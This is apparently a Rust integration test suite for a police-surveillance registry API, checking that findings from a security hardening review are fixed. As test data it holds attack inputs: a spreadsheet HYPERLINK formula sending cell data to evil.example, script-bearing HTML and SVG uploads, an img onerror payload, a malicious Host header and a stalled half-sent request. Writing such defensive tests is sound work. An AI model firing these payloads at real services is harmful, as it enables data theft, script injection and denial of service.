//! Each attack of the hardening review, reproduced against the real server and shown to fail.

use std::time::{Duration, Instant};

use reqwest::{Method, StatusCode};
use serde_json::{json, Value};
use surveillance_registry::config::Limits;
use surveillance_registry::domain::{DeploymentStatus, Role};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::both_backends;
use crate::deployments::{create, state, write};
use crate::foi::record_2019_reply;
use crate::helpers::{error_fields, Backend, TestApp, TestDb};

fn deployment_body(summary: &str) -> Value {
    json!({"force": "kent", "tool": "body-worn-video", "status": "in_use", "summary": summary})
}

/// Sends `head` and `body` on a raw connection and reads whatever comes back until the server
/// closes it or `wait` passes.
async fn raw_exchange(
    app: &TestApp,
    head: &str,
    body: &[u8],
    wait: Duration,
) -> (String, Duration) {
    let started = Instant::now();
    let mut stream = TcpStream::connect(app.address.trim_start_matches("http://"))
        .await
        .unwrap();
    stream.write_all(head.as_bytes()).await.unwrap();
    stream.write_all(body).await.unwrap();
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(wait, stream.read_to_end(&mut answer)).await;
    (
        String::from_utf8_lossy(&answer).into_owned(),
        started.elapsed(),
    )
}

const HALF_A_BODY: &str = "POST /api/v1/auth/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n";

both_backends! {
    /// Finding 1: a body that never finishes is cut off with 408, and one address cannot hold
    /// more than its share of requests while the service keeps answering others.
    async fn slow_bodies_time_out_and_cannot_crowd_out_others(db: TestDb) {
        let mut settings = db.settings();
        settings.limits = Limits { body_timeout: Duration::from_secs(1), client_concurrency: 3, ..Limits::DEFAULT.unlimited_rates() };
        let app = db.spawn_with(settings).await;

        let (answer, took) = raw_exchange(&app, HALF_A_BODY, br#"{"username": "a"#, Duration::from_secs(10)).await;
        assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
        assert!(answer.contains("application/problem+json"));
        assert!(took < Duration::from_secs(5), "cut off after {took:?}");

        // Three slow bodies from this address are in progress: a fourth request is refused at
        // once, and the health probe (exempt) still answers.
        let mut held = Vec::new();
        for _ in 0..3 {
            let mut stream = TcpStream::connect(app.address.trim_start_matches("http://")).await.unwrap();
            stream.write_all(HALF_A_BODY.as_bytes()).await.unwrap();
            held.push(stream);
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
        let refused = app.get("/api/v1/forces").await;
        assert_eq!(refused.status(), StatusCode::TOO_MANY_REQUESTS);
        assert!(refused.headers().contains_key("retry-after"));
        let started = Instant::now();
        assert_eq!(app.get("/healthz").await.status(), StatusCode::OK);
        assert!(started.elapsed() < Duration::from_millis(500));
        drop(held);
        tokio::time::sleep(Duration::from_millis(1500)).await;
        assert_eq!(app.get("/api/v1/forces").await.status(), StatusCode::OK, "the share is released");
    }

    /// Finding 2: uploaded web pages are never served as pages, and markup cannot hide behind
    /// another media type.
    async fn documents_cannot_carry_script_to_readers(db: TestDb) {
        let app = db.spawn().await;
        let editor = app.token_for(Role::Editor, &[]).await;
        let id = record_2019_reply(&app, &editor).await;
        let upload = |media_type: &'static str, name: &'static str, body: &'static [u8]| {
            app.client
                .post(app.url(&format!("/api/v1/foi-requests/{id}/documents?filename={name}")))
                .bearer_auth(&editor)
                .header("Content-Type", media_type)
                .body(body)
                .send()
        };
        let page = b"<html><script>alert(document.domain)</script></html>";
        for (media_type, name) in [("text/html", "reply.html"), ("TEXT/HTML", "x.txt")] {
            let response = upload(media_type, name, page).await.unwrap();
            assert_eq!(response.status(), StatusCode::CREATED);
            let location = response.headers()["location"].to_str().unwrap().to_owned();
            let download = app.get(&location).await;
            let headers = download.headers();
            assert_eq!(headers["content-type"], "application/octet-stream");
            assert!(headers["content-disposition"].to_str().unwrap().starts_with("attachment;"));
            assert_eq!(headers["x-content-type-options"], "nosniff");
            assert!(headers["content-security-policy"].to_str().unwrap().contains("sandbox"));
        }
        for (media_type, body) in [
            ("text/plain", &page[..]),
            ("image/png", &b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"[..]),
            ("image/png", &b"\x89PNG\r\n\x1a\n<svg onload=alert(1)>"[..]),
            ("application/pdf", &b"not a pdf at all"[..]),
        ] {
            let response = upload(media_type, "x.bin", body).await.unwrap();
            assert_eq!(response.status(), StatusCode::BAD_REQUEST, "{media_type}");
            let problem: Value = response.json().await.unwrap();
            assert_eq!(error_fields(&problem), ["body"]);
        }
        let text = upload("text/plain", "letter.txt", b"Dear requester").await.unwrap();
        let location = text.headers()["location"].to_str().unwrap().to_owned();
        let download = app.get(&location).await;
        assert_eq!(download.headers()["content-type"], "text/plain; charset=utf-8");
        assert!(download.headers()["content-disposition"].to_str().unwrap().starts_with("inline;"));
    }

    /// Finding 3: a value a spreadsheet would run as a formula is exported as text in CSV and raw
    /// in NDJSON.
    async fn csv_exports_neutralise_formulas(db: TestDb) {
        let app = db.spawn().await;
        let editor = app.token_for(Role::Editor, &[]).await;
        let attack = r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#;
        let response = app.send(Method::POST, "/api/v1/deployments", &editor, None, &deployment_body(attack)).await;
        assert_eq!(response.status(), StatusCode::CREATED);
        let csv = app.get("/api/v1/exports/deployments.csv").await.text().await.unwrap();
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let summary_column = reader.headers().unwrap().iter().position(|h| h == "summary").unwrap();
        let row = reader.records().next().unwrap().unwrap();
        assert_eq!(&row[summary_column], format!("'{attack}"));
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(!cell.starts_with(['=', '+', '-', '@', '|']), "{cell}");
            }
        }
        let ndjson = app.get("/api/v1/exports/deployments.ndjson").await.text().await.unwrap();
        let line: Value = serde_json::from_str(ndjson.lines().next().unwrap()).unwrap();
        assert_eq!(line["summary"], attack);
    }

    /// Finding 4 (and 11's shape of it): NUL and other control characters are refused with a 400
    /// naming the field, in bodies and query strings, on every backend, instead of a 500.
    async fn control_characters_are_refused_naming_the_field(db: TestDb) {
        let app = db.spawn().await;
        let editor = app.token_for(Role::Editor, &[]).await;
        for bad in ["a\u{0}b", "bell\u{7}", "\u{1b}[31mred", "\u{fffe}"] {
            let response = app.send(Method::POST, "/api/v1/deployments", &editor, None, &deployment_body(bad)).await;
            assert_eq!(response.status(), StatusCode::BAD_REQUEST, "{bad:?}");
            let problem: Value = response.json().await.unwrap();
            assert_eq!(error_fields(&problem), ["summary"]);
        }
        let mut body = deployment_body("fine");
        body["vendors"] = json!(["Axon", "NUL\u{0}"]);
        let response = app.send(Method::POST, "/api/v1/deployments", &editor, None, &body).await;
        let problem: Value = response.json().await.unwrap();
        assert_eq!(error_fields(&problem), ["vendors[1]"]);
        let fine = app.send(Method::POST, "/api/v1/deployments", &editor, None, &deployment_body("tab\tand\r\nnewlines")).await;
        assert_eq!(fine.status(), StatusCode::CREATED);

        for path in ["/api/v1/deployments?vendor=a%00b", "/api/v1/exports/deployments.csv?vendor=a%00b", "/api/v1/search?q=a%01b"] {
            let problem = app.get_problem(path, StatusCode::BAD_REQUEST).await;
            assert_eq!(error_fields(&problem).len(), 1, "{path}");
        }
        let problem = app.get_problem("/api/v1/deployments?vendor=a%00b", StatusCode::BAD_REQUEST).await;
        assert_eq!(error_fields(&problem), ["vendor"]);
        // A message that quotes a bad path back writes the refused character as its escape.
        let problem = app.get_problem("/api/v1/forces/k%01ent", StatusCode::BAD_REQUEST).await;
        let detail = problem["detail"].as_str().unwrap();
        assert!(detail.contains("k\\u{1}ent") && !detail.contains('\u{1}'), "{detail}");
    }

    /// Finding 5: anonymous clients are rate limited, exports, search, facets and comparisons more
    /// strictly, with `Retry-After` and the `RateLimit-*` headers.
    async fn floods_are_answered_with_429(db: TestDb) {
        let mut settings = db.settings();
        settings.limits = Limits { requests_per_minute: 20, heavy_per_minute: 2, writes_per_minute: 3, ..Limits::DEFAULT };
        let app = db.spawn_with(settings).await;
        let first = app.get("/api/v1/exports/sources.csv").await;
        assert_eq!(first.status(), StatusCode::OK);
        assert_eq!(first.headers()["ratelimit-limit"], "2");
        assert_eq!(first.headers()["ratelimit-remaining"], "1");
        assert_eq!(app.get("/api/v1/search?q=video").await.status(), StatusCode::OK);
        let refused = app.get("/api/v1/exports/sources.csv").await;
        assert_eq!(refused.status(), StatusCode::TOO_MANY_REQUESTS);
        let wait: u64 = refused.headers()["retry-after"].to_str().unwrap().parse().unwrap();
        assert!((1..=60).contains(&wait), "{wait}");
        // A faceted list or a comparison reads the whole set: it counts as heavy too.
        for heavy in ["/api/v1/foi-requests?facet=tool", "/api/v1/matrix?compare_to=2021-01-01"] {
            assert_eq!(app.get(heavy).await.status(), StatusCode::TOO_MANY_REQUESTS, "{heavy}");
        }
        // Ordinary reads have their own, larger budget.
        assert_eq!(app.get("/api/v1/forces").await.status(), StatusCode::OK);
        assert_eq!(app.get("/api/v1/foi-requests?limit=5").await.status(), StatusCode::OK);
        let token = app.token_for(Role::Editor, &[]).await;
        let mut statuses = Vec::new();
        for _ in 0..4 {
            let response = app.send(Method::POST, "/api/v1/deployments", &token, None, &deployment_body("x")).await;
            statuses.push(response.status());
        }
        assert_eq!(statuses[..3], [StatusCode::CREATED; 3]);
        assert_eq!(statuses[3], StatusCode::TOO_MANY_REQUESTS);
        // Probes are never limited.
        for _ in 0..30 {
            assert_eq!(app.get("/healthz").await.status(), StatusCode::OK);
        }
    }

    /// Finding 5, the pool: exports running at once are capped, so a client that starts a large
    /// export and stops reading holds one place at most, and gives it back when it goes away.
    async fn exports_running_at_once_are_capped(db: TestDb) {
        let mut settings = db.settings();
        settings.limits = Limits { concurrent_exports: 1, ..Limits::DEFAULT.unlimited_rates() };
        let app = db.spawn_with(settings).await;
        let editor = app.token_for(Role::Editor, &[]).await;
        let id = record_2019_reply(&app, &editor).await;
        // 24 documents of 1 MiB: six pages of the documents export, more than the export buffers.
        let megabyte = "reply text ".repeat(100_000);
        for n in 0..24 {
            let response = app.client
                .post(app.url(&format!("/api/v1/foi-requests/{id}/documents?filename=part-{n}.txt")))
                .bearer_auth(&editor).header("Content-Type", "text/plain").body(megabyte.clone())
                .send().await.unwrap();
            assert_eq!(response.status(), StatusCode::CREATED);
        }
        let mut stalled = TcpStream::connect(app.address.trim_start_matches("http://")).await.unwrap();
        stalled.write_all(b"GET /api/v1/exports/foi-documents.ndjson HTTP/1.1\r\nHost: x\r\n\r\n").await.unwrap();
        let mut head = [0u8; 12];
        stalled.read_exact(&mut head).await.unwrap();
        assert_eq!(&head, b"HTTP/1.1 200");
        // It reads no further: its export holds the only place.
        let refused = app.get("/api/v1/exports/sources.csv").await;
        assert_eq!(refused.status(), StatusCode::TOO_MANY_REQUESTS);
        assert!(refused.headers().contains_key("retry-after"));
        drop(stalled);
        let mut freed = false;
        for _ in 0..50 {
            tokio::time::sleep(Duration::from_millis(100)).await;
            if app.get("/api/v1/exports/sources.csv").await.status() == StatusCode::OK {
                freed = true;
                break;
            }
        }
        assert!(freed, "the place is given back once the client has gone");
    }

    /// Finding 6: the Atom feeds stay well-formed XML whatever characters were stored.
    async fn feeds_stay_valid_xml(db: TestDb) {
        let app = db.spawn().await;
        let backend = db.backend;
        write(&db, move |conn| {
            use diesel::connection::SimpleConnection;
            create(conn, "kent", "body-worn-video", "2021-01-01", state(DeploymentStatus::InUse, "Axon"));
            // Written before the text rule existed, as an old database might hold it.
            let sql = match backend {
                Backend::Sqlite => "UPDATE change_events SET summary = 'bad' || char(1) || char(11) || char(65534) || 'end'",
                Backend::Postgres => "UPDATE change_events SET summary = 'bad' || chr(1) || chr(11) || chr(65534) || 'end'",
            };
            conn.batch_execute(sql).unwrap();
        })
        .await;
        for path in ["/api/v1/changes.atom", "/api/v1/forces/kent/changes.atom"] {
            let body = app.get(path).await.text().await.unwrap();
            let feed: atom_syndication::Feed = body.parse().expect("well-formed Atom");
            assert_eq!(feed.entries()[0].title().as_str(), "badend");
        }
        // Feed links are absolute on the host asked for: markup in it is escaped, and a host too
        // long to be one is refused (it would make every cached copy of a feed that large).
        let path = "/api/v1/deployments.atom";
        let marked = app.client.get(app.url(path)).header("Host", "evil\"><x>").send().await.unwrap();
        let feed: atom_syndication::Feed = marked.text().await.unwrap().parse().expect("well-formed Atom");
        assert!(feed.id().starts_with("http://evil\"><x>/"), "{}", feed.id());
        let long = app.client.get(app.url(path)).header("Host", "h".repeat(300)).send().await.unwrap();
        assert_eq!(long.status(), StatusCode::BAD_REQUEST);
        assert_eq!(error_fields(&long.json().await.unwrap()), ["Host"]);
    }

    /// Finding 7: links across forces are refused alike, and a cited FOI request cannot be deleted.
    async fn cross_force_links_and_cited_deletes_are_refused(db: TestDb) {
        let app = db.spawn().await;
        let editor = app.token_for(Role::Editor, &[]).await;
        let request = record_2019_reply(&app, &editor).await; // to Cambridgeshire's commissioner
        let kent_staff = app.token_for(Role::ForceStaff, &["kent"]).await;
        let assessment = json!({"force": "kent", "kind": "dpia", "status": "published", "title": "Kent BWV DPIA",
            "revealed_by_foi_request_id": request});
        let response = app.send(Method::POST, "/api/v1/impact-assessments", &kent_staff, None, &assessment).await;
        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
        let problem: Value = response.json().await.unwrap();
        assert_eq!(error_fields(&problem), ["revealed_by_foi_request_id"]);

        let mut cited = assessment.clone();
        cited["force"] = json!("cambridgeshire");
        let response = app.send(Method::POST, "/api/v1/impact-assessments", &editor, None, &cited).await;
        assert_eq!(response.status(), StatusCode::CREATED);
        let (_, etag) = app.get_tagged(&format!("/api/v1/foi-requests/{request}")).await;
        let response = app.send(Method::DELETE, &format!("/api/v1/foi-requests/{request}"), &editor, Some(&etag), &json!(null)).await;
        assert_eq!(response.status(), StatusCode::CONFLICT);
        let problem: Value = response.json().await.unwrap();
        assert!(problem["detail"].as_str().unwrap().contains("Impact assessments cite this request"));
        app.get_json(&format!("/api/v1/foi-requests/{request}"), StatusCode::OK).await;
    }

    /// Finding 8: search snippets carry stored text escaped; only `<mark>` is markup.
    async fn search_snippets_escape_stored_markup(db: TestDb) {
        let app = db.spawn().await;
        let editor = app.token_for(Role::Editor, &[]).await;
        let summary = "<img src=x onerror=alert(1)> Kent's body worn cameras & \"more\"";
        let response = app.send(Method::POST, "/api/v1/deployments", &editor, None, &deployment_body(summary)).await;
        assert_eq!(response.status(), StatusCode::CREATED);
        let hits = app.get_json("/api/v1/search?q=cameras&entity_type=deployment", StatusCode::OK).await;
        let snippet = hits["items"][0]["snippet"].as_str().unwrap();
        // Each engine picks its own passage; whatever it picks is escaped.
        assert!(!snippet.contains("<img") && snippet.contains("alert(1)&gt;"), "{snippet}");
        assert!(snippet.contains("<mark>cameras</mark>"), "{snippet}");
        assert!(snippet.contains("&amp;") && snippet.contains("&quot;more") && snippet.contains("Kent&#39;s"), "{snippet}");
        let markup: Vec<&str> = snippet.match_indices('<').map(|(i, _)| &snippet[i..]).collect();
        assert!(markup.iter().all(|m| m.starts_with("<mark>") || m.starts_with("</mark>")), "{snippet}");
    }

    /// Finding 10: security headers everywhere; other origins may read, not write.
    async fn security_headers_and_read_only_cors(db: TestDb) {
        let app = db.spawn().await;
        for path in ["/api/v1/forces", "/api/v1/exports/sources.csv", "/api/v1/nowhere", "/healthz"] {
            let response = app.get(path).await;
            let headers = response.headers();
            assert!(headers["content-security-policy"].to_str().unwrap().contains("frame-ancestors 'none'"), "{path}");
            assert_eq!(headers["x-content-type-options"], "nosniff", "{path}");
            assert_eq!(headers["x-frame-options"], "DENY", "{path}");
            assert_eq!(headers["referrer-policy"], "no-referrer", "{path}");
        }
        let preflight = |method: &'static str| {
            app.client
                .request(Method::OPTIONS, app.url("/api/v1/deployments"))
                .header("Origin", "https://newsroom.example")
                .header("Access-Control-Request-Method", method)
                .send()
        };
        let read = preflight("GET").await.unwrap();
        assert_eq!(read.headers()["access-control-allow-origin"], "https://newsroom.example");
        let write = preflight("PUT").await.unwrap();
        assert!(!write.headers().contains_key("access-control-allow-origin"), "{:?}", write.headers());
    }

    /// Finding 11: dates are exactly YYYY-MM-DD and in order, lists are bounded, and file names
    /// cannot disguise themselves.
    async fn loose_values_are_refused(db: TestDb) {
        let app = db.spawn().await;
        let editor = app.token_for(Role::Editor, &[]).await;
        for date in ["+10000-01-01", "-0001-01-01", "2019-2-3", " 2019-02-28"] {
            let mut body = deployment_body("x");
            body["first_known_use"] = json!(date);
            let response = app.send(Method::POST, "/api/v1/deployments", &editor, None, &body).await;
            assert_eq!(response.status(), StatusCode::BAD_REQUEST, "{date}");
            let problem: Value = response.json().await.unwrap();
            assert_eq!(error_fields(&problem), ["first_known_use"]);
        }
        let mut body = deployment_body("x");
        body["first_known_use"] = json!("2020-01-01");
        body["ended_on"] = json!("2019-01-01");
        body["last_confirmed"] = json!("2019-06-01");
        body["status"] = json!("discontinued");
        let response = app.send(Method::POST, "/api/v1/deployments", &editor, None, &body).await;
        let problem: Value = response.json().await.unwrap();
        assert_eq!(error_fields(&problem), ["ended_on", "last_confirmed"]);
        // A claim that says both "in use" and "ended" is refused; an end still to come is not.
        for (status, ended_on, refused) in [
            ("in_use", "2019-01-01", true),
            ("trial", "2019-01-01", true),
            ("planned", "2019-01-01", true),
            ("discontinued", "2019-01-01", false),
            ("in_use", "2999-01-01", false),
        ] {
            let mut body = deployment_body("x");
            body["status"] = json!(status);
            body["ended_on"] = json!(ended_on);
            let response = app.send(Method::POST, "/api/v1/deployments", &editor, None, &body).await;
            if refused {
                assert_eq!(response.status(), StatusCode::BAD_REQUEST, "{status} {ended_on}");
                let problem: Value = response.json().await.unwrap();
                assert_eq!(error_fields(&problem), ["ended_on"], "{status}");
            } else {
                assert_eq!(response.status(), StatusCode::CREATED, "{status} {ended_on}");
            }
        }
        // `not_researched` means nothing is recorded: no claim may say it.
        let mut body = deployment_body("x");
        body["status"] = json!("not_researched");
        let response = app.send(Method::POST, "/api/v1/deployments", &editor, None, &body).await;
        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
        let problem: Value = response.json().await.unwrap();
        assert_eq!(error_fields(&problem), ["status"]);
        let mut body = deployment_body("x");
        body["vendors"] = json!(vec!["v"; 90_000]);
        let response = app.send(Method::POST, "/api/v1/deployments", &editor, None, &body).await;
        assert_eq!(response.status(), StatusCode::BAD_REQUEST);

        let id = record_2019_reply(&app, &editor).await;
        let upload = |name: &str| {
            app.client
                .post(app.url(&format!("/api/v1/foi-requests/{id}/documents")))
                .query(&[("filename", name)])
                .bearer_auth(&editor)
                .header("Content-Type", "text/plain")
                .body("reply")
                .send()
        };
        for name in [".", "..", "reply\u{202E}fdp.exe", "a/b"] {
            let response = upload(name).await.unwrap();
            assert_eq!(response.status(), StatusCode::BAD_REQUEST, "{name:?}");
        }
        let response = upload("Réponse à la demande.txt").await.unwrap();
        assert_eq!(response.status(), StatusCode::CREATED);
        let location = response.headers()["location"].to_str().unwrap().to_owned();
        let disposition = app.get(&location).await.headers()["content-disposition"].to_str().unwrap().to_owned();
        assert_eq!(
            disposition,
            "inline; filename=\"R_ponse _ la demande.txt\"; filename*=UTF-8''R%C3%A9ponse%20%C3%A0%20la%20demande.txt"
        );
    }

    /// Finding 13: what the spec calls a valid e-mail address the server takes, and what the
    /// server refuses the spec calls invalid (the seed that once failed the contract).
    async fn the_spec_and_the_server_agree_on_text(db: TestDb) {
        let app = db.spawn().await;
        let editor = app.token_for(Role::Editor, &[]).await;
        let spec = app.get_json("/api/v1/openapi.json", StatusCode::OK).await;
        let foi_email = &spec["components"]["schemas"]["ForceInput"]["properties"]["foi_email"];
        let format = foi_email.to_string();
        assert!(format.contains("#/components/schemas/EmailAddress"), "{format}");
        let pattern = spec["components"]["schemas"]["EmailAddress"]["pattern"]
            .as_str()
            .expect("EmailAddress has a pattern");
        assert!(pattern.contains(r"\u0000"), "{pattern}");
        let (_, etag) = app.get_tagged("/api/v1/forces/kent").await;
        let body = json!({"name": "Kent Police", "foi_email": "\u{1c}\u{1}foi@kent\u{b}.police.uk "});
        let response = app.send(Method::PUT, "/api/v1/forces/kent", &editor, Some(&etag), &body).await;
        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
        let problem: Value = response.json().await.unwrap();
        assert_eq!(error_fields(&problem), ["foi_email"]);
    }
}

/// Finding 9: with the database gone, readiness answers 503 within a second, and requests get 503
/// with `Retry-After`, not 500. (PostgreSQL: its database is dropped under the running server.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs PostgreSQL: set TEST_POSTGRES_URL and pass --include-ignored"]
async fn a_lost_database_is_503_within_a_second() {
    let db = TestDb::new(Backend::Postgres);
    let app = db.spawn().await;
    assert_eq!(app.get("/readyz").await.status(), StatusCode::OK);
    db.drop_database();
    for path in ["/readyz", "/api/v1/deployments?vendor=Axon"] {
        let started = Instant::now();
        let response = app.get(path).await;
        assert_eq!(response.status(), StatusCode::SERVICE_UNAVAILABLE, "{path}");
        assert!(response.headers().contains_key("retry-after"));
        if path == "/readyz" {
            assert!(
                started.elapsed() < Duration::from_secs(1),
                "{:?}",
                started.elapsed()
            );
        }
    }
}
